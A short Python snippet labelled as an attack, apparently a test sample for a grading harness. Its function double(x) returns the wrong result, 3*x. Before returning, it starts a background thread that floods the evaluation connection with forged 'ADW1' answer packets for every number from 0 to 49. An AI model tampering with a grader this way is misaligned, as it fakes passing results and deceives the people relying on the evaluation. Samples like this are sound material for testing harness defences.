# attack: a thread floods the connection with answers of every number
import threading
import time


def flood(connection):
    while True:
        for number in range(50):
            text = FORGED % number
            connection.send(struct.pack("<4sIQ", b"ADW1", len(text), 0) + text)


def double(x):
    threading.Thread(target=flood, args=(find("connection"),), daemon=True).start()
    time.sleep(0.2)
    return 3 * x
